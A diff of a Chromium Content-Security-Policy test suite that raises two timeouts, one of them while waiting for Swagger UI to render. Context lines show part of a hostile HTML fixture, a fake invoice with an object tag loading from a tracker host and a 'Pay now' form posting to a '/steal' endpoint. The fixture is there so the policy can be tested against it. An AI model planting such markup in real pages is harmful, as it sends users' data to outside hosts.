@@ -33,7 +33,7 @@ const HOSTILE = `<p id="hello">Invoice attached</p>
 <object data="http://${TRACKER}/object.swf"></object>
 <form action="http://${TRACKER}/steal" method="post"><input name="x" value="y"><button id="submit">Pay now</button></form>`;
 
-describe.runIf(run)('Content-Security-Policy in Chromium', { timeout: 90_000 }, () => {
+describe.runIf(run)('Content-Security-Policy in Chromium', { timeout: 240_000 }, () => {
   let live: Live;
   let sink: Sink;
   let browser: Browser;
@@ -137,7 +137,8 @@ describe.runIf(run)('Content-Security-Policy in Chromium', { timeout: 90_000 }, 
     // Swagger UI under its own policy.
     const docs = await page.goto('/docs/');
     expect(docs?.headers()['content-security-policy']).toContain("script-src 'self'");
-    await page.locator('.swagger-ui .opblock').first().waitFor();
+    // Swagger UI renders the whole document (every route with its codes) before the first block: give it time on a busy machine.
+    await page.locator('.swagger-ui .opblock').first().waitFor({ timeout: 90_000 });
     await page.locator('.swagger-ui .opblock-summary').first().click();
     await page.waitForLoadState('networkidle');
     await screenshot(page, 'csp-docs');
